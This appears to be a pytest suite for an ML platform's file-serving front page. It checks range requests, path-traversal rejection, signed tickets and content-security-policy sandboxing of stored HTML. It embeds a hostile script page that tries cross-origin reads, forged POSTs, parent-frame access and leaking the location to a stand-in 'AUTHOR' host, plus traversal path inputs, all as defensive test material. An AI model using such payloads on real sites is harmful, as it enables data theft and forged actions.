"""Files of runs through the front page: whose they are, how they come, and what a stored page may do in a browser."""

import asyncio
import json
import re
from collections.abc import Iterator
from contextlib import closing
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from urllib.parse import quote
from uuid import uuid4

import httpx
import pytest

from infra.front_page.application import application
from infra.stack_settings import USER, StackSettings
from tasks.storage.object_store import ObjectStore
from tests.clients import front_page, prefect_api
from tests.infra.browser import OpenBrowser, Page
from tests.infra.front_page.test_live import NO_SERVICES
from tests.infra.front_page.test_s3_events import basic

RUN = "7c1d2f0e-5b7a-4c3e-9f55-6a3c1b2d4e5f"
HOSTILE = "<i>&\"' ä%2F#?é.txt"
FILM = bytes(range(256)) * 4096  # more than one piece


@pytest.fixture(scope="module")
def site(stack: StackSettings) -> Iterator[httpx.Client]:
    for bucket in ("runs", "predictions"):
        store = ObjectStore(bucket)
        store.put(f"{RUN}/report.html", b"<!doctype html><title>kept</title>")
        store.put(f"{RUN}/annotated/a.mp4", FILM)
        store.put(f"{RUN}/coco.json", b"{}", "text/html")
        store.put(f"{RUN}/{HOSTILE}", b"odd")
        store.put(f"{RUN}/empty.txt", b"")
    ObjectStore("datasets").put("x/report.html", b"no")
    ObjectStore("runs").put("locks/report.html", b"no")
    with front_page(stack) as client:
        yield client


def opened(site: httpx.Client, bucket: str = "runs") -> str:
    """The address that a page of the run is opened at."""
    answer = site.get(f"/files/{bucket}/{RUN}/report.html")
    assert answer.status_code == 307
    return answer.headers["location"]


def test_a_file_comes_whole_in_parts_and_not_again(site: httpx.Client) -> None:
    address = f"/files/predictions/{RUN}/annotated/a.mp4"
    whole = site.get(address)
    assert (whole.status_code, whole.content, whole.headers["content-type"]) == (200, FILM, "video/mp4")
    part = site.get(address, headers={"Range": "bytes=300-599"})
    assert (part.status_code, part.content) == (206, FILM[300:600])
    assert part.headers["content-range"] == f"bytes 300-599/{len(FILM)}"
    assert site.get(address, headers={"Range": f"bytes={len(FILM)}-"}).status_code == 416
    same = site.get(address, headers={"If-None-Match": whole.headers["etag"]})
    assert (same.status_code, same.content) == (304, b"")
    head = site.head(address)
    assert (head.status_code, head.content, head.headers["content-length"]) == (200, b"", str(len(FILM)))
    assert site.get(f"/files/runs/{RUN}/empty.txt").content == b""


def test_a_name_of_any_signs_is_found_and_what_no_browser_shows_is_saved(site: httpx.Client) -> None:
    odd = site.get(f"/files/runs/{RUN}/{quote(HOSTILE)}")
    assert odd.text == "odd"
    table = site.get(f"/files/predictions/{RUN}/coco.json")
    assert (table.headers["content-type"], table.headers["content-disposition"]) == ("application/json", "attachment")
    assert "content-disposition" not in site.get(f"/files/predictions/{RUN}/annotated/a.mp4").headers


@pytest.mark.parametrize(
    "path",
    [
        f"runs/{RUN}/missing.html",
        f"runs/{RUN}/",
        f"runs/{RUN}/../locks/report.html",
        f"runs/{RUN}/%2e%2e/locks/report.html",
        f"runs/{RUN}/./report.html",
        f"runs/{RUN}//report.html",
        "runs/locks/report.html",
        "runs/../datasets/x/report.html",
        "datasets/x/report.html",
        f"models/{RUN}/config.pbtxt",
        f"mlflow/{RUN}/MLmodel",
    ],
)
def test_what_is_no_file_of_a_run_is_not_there(site: httpx.Client, stack: StackSettings, path: str) -> None:
    address = f"/files/{path}"
    headers = {"Host": "127.0.0.1", **basic(USER, stack.secrets["front_page"])}
    while address:
        # httpx would make another path of it.
        with closing(HTTPConnection("127.0.0.1", site.base_url.port)) as connection:
            connection.request("GET", address, headers=headers)
            answer = connection.getresponse()
            address = answer.headers["location"] or ""
    assert answer.status == 404


def test_a_ticket_is_for_the_files_of_its_run_and_needs_no_password(site: httpx.Client) -> None:
    address = opened(site)
    ticket = address.split("/")[2]
    with httpx.Client(base_url=site.base_url) as stranger:
        page = stranger.get(address, headers={"Origin": "null", "Sec-Fetch-Site": "cross-site"})
        assert "<title>kept" in page.text
        assert stranger.get(address.replace("report.html", "annotated/a.mp4")).content == FILM
        assert stranger.get(f"/opened/{ticket}/runs/{uuid4()}/report.html").status_code == 403
        assert stranger.get(f"/opened/{ticket}/predictions/{RUN}/report.html").status_code == 403
        assert stranger.get(f"/files/runs/{RUN}/report.html").status_code == 401
    policy = page.headers["content-security-policy"]
    assert re.match(r"sandbox allow-downloads [^;]*; default-src 'none'", policy)
    assert "allow-same-origin" not in policy
    assert page.headers["referrer-policy"] == "no-referrer"


def test_a_store_that_is_away_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AWS_ENDPOINT_URL", NO_SERVICES.store_url)

    async def answer() -> httpx.Response:
        transport = httpx.ASGITransport(application(NO_SERVICES))
        async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1") as client:
            return await client.get(f"/files/runs/{RUN}/a.json", auth=("studio", NO_SERVICES.password))

    away = asyncio.run(answer())
    assert away.status_code == 502
    assert "The object store failed while reading" in away.text


# ---- a hostile page, in a browser -----------------------------------------------------------------------------------

# What it learns, it says to whoever has framed it, shows in its title, and tries to send to its author.
ATTACK = """<!doctype html><title>begun</title><body><script>(async () => {
const learned = [];
const attempt = async (name, what) => { try { learned.push([name, String(await what())]); } catch {} };
const timed = promise => Promise.race([promise, new Promise((_, fail) => setTimeout(fail, 2000))]);
const start = {method: 'POST', body: new URLSearchParams({archive: 'MARK'})};
await attempt('read', async () => (await timed(fetch('/predictions/list'))).text());
await attempt('files', async () => (await timed(fetch('coco.json'))).text());
await attempt('start', async () => (await timed(fetch('/start/validate-dataset', start))).text());
await attempt('blindly', async () => (await timed(fetch('/start/validate-dataset', {...start, mode: 'no-cors'}))).type);
await attempt('events', async () => (await timed(fetch('/s3-events', start))).text());
await attempt('parent', () => parent !== window && parent.document.title);
await attempt('storage', () => localStorage.length);
await attempt('frame', () => timed(new Promise((done, fail) => {
  const frame = document.createElement('iframe');
  frame.onload = () => { try { done(frame.contentDocument.title) } catch { fail() } };
  frame.src = '/predictions'; document.body.append(frame); })));
const image = new Image(); image.src = 'AUTHOR/leak?' + location;
const form = document.createElement('form'); form.method = 'POST'; form.action = '/start/validate-dataset';
form.innerHTML = '<input name=archive value=MARK>'; document.body.append(form); form.submit();
await attempt('navigate', () => { if (parent !== window) top.location = 'AUTHOR/top'; throw 0; });
document.title = JSON.stringify(learned.filter(([, what]) => what !== 'false'));
parent.postMessage(document.title, '*');
})()</script>"""


@pytest.fixture
def author() -> Iterator[tuple[str, list[str]]]:
    """The address of whoever has written the page, and what arrives there."""
    arrived: list[str] = []

    class Author(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            arrived.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Author) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", arrived
        server.shutdown()


@pytest.fixture
def signed_in(stack: StackSettings, open_browser: OpenBrowser, tmp_path: Path) -> Iterator[Page]:
    """The browser of a person who has given the password."""
    with open_browser(tmp_path / "profile") as page:
        page.sign_in(f"http://127.0.0.1:{stack.live_port}/predictions", USER, stack.secrets["front_page"])
        assert page.js("fetch('/predictions').then(answer => answer.status)") == 200
        yield page


def checks_of(stack: StackSettings, archive: str) -> int:
    with prefect_api(stack) as api:
        runs = api.post("/flow_runs/filter", json={"sort": "START_TIME_DESC"}).raise_for_status().json()
    return sum(run["parameters"].get("archive") == archive for run in runs)


def test_a_stored_page_reads_and_starts_nothing(
    stack: StackSettings, site: httpx.Client, signed_in: Page, author: tuple[str, list[str]]
) -> None:
    mark = f"{uuid4().hex}.zip"
    page = ATTACK.replace("AUTHOR", author[0]).replace("MARK", mark)
    ObjectStore("predictions").put(f"{RUN}/index.html", page.encode(), "text/html")
    base = str(site.base_url).rstrip("/")

    signed_in.js("window.told = null; addEventListener('message', event => told = event.data)")
    signed_in.js(
        "document.body.append(Object.assign(document.createElement('iframe'), "
        f"{{src: '/files/predictions/{RUN}/index.html'}}))"
    )
    assert json.loads(signed_in.wait("told")) == []
    assert signed_in.js("location.pathname") == "/predictions"

    signed_in.open(f"{base}/files/predictions/{RUN}/index.html")
    assert json.loads(signed_in.wait("document.title.startsWith('[') && document.title")) == []
    assert signed_in.js("location.pathname").startswith("/opened/")
    assert author[1] == []
    assert checks_of(stack, mark) == 0


def test_that_page_would_do_all_of_it_as_a_page_of_ours(stack: StackSettings, signed_in: Page) -> None:
    """The same requests from a page of the front page's own, with its token, read and start: the sandbox stops it."""
    mark = f"{uuid4().hex}.zip"
    token = "{'X-Studio-Token': document.querySelector('meta[name=studio-token]').content}"
    start = f"{{method: 'POST', headers: {token}, body: new URLSearchParams({{archive: '{mark}'}})}}"
    assert signed_in.js(f"fetch('/start/validate-dataset', {start}).then(answer => answer.status)") == 200
    assert "<option" in signed_in.js("fetch('/predictions/models').then(answer => answer.text())")
    assert checks_of(stack, mark) == 1


def test_a_report_has_no_script_at_all(site: httpx.Client, signed_in: Page) -> None:
    ObjectStore("runs").put(
        f"{RUN}/other.html", b"<!doctype html><title>kept</title><script>document.title='x'</script>"
    )
    signed_in.open(f"{str(site.base_url).rstrip('/')}/files/runs/{RUN}/other.html")
    assert signed_in.js("document.title") == "kept"
